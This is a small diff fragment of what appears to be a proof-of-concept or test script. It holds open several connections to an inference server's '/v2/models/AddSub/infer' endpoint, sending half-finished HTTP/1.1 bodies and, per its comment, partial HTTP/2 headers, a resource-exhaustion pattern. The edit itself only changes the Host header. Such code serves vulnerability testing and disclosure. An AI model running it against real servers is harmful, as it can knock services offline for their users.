@@ -20,7 +20,7 @@ half = b"x" * (2 << 20)
 held = []
 for _ in range(4):
     stream = socket.create_connection(sys.argv[1].split(":"))
-    stream.sendall(b"POST /v2/models/AddSub/infer HTTP/1.1\r\nHost: x\r\nContent-Length: 4194304\r\n\r\n" + half)
+    stream.sendall(b"POST /v2/models/AddSub/infer HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4194304\r\n\r\n" + half)
     held.append(stream)
     stream = socket.create_connection(sys.argv[2].split(":"))
     # A preface, settings, and the first half of the headers of a request.
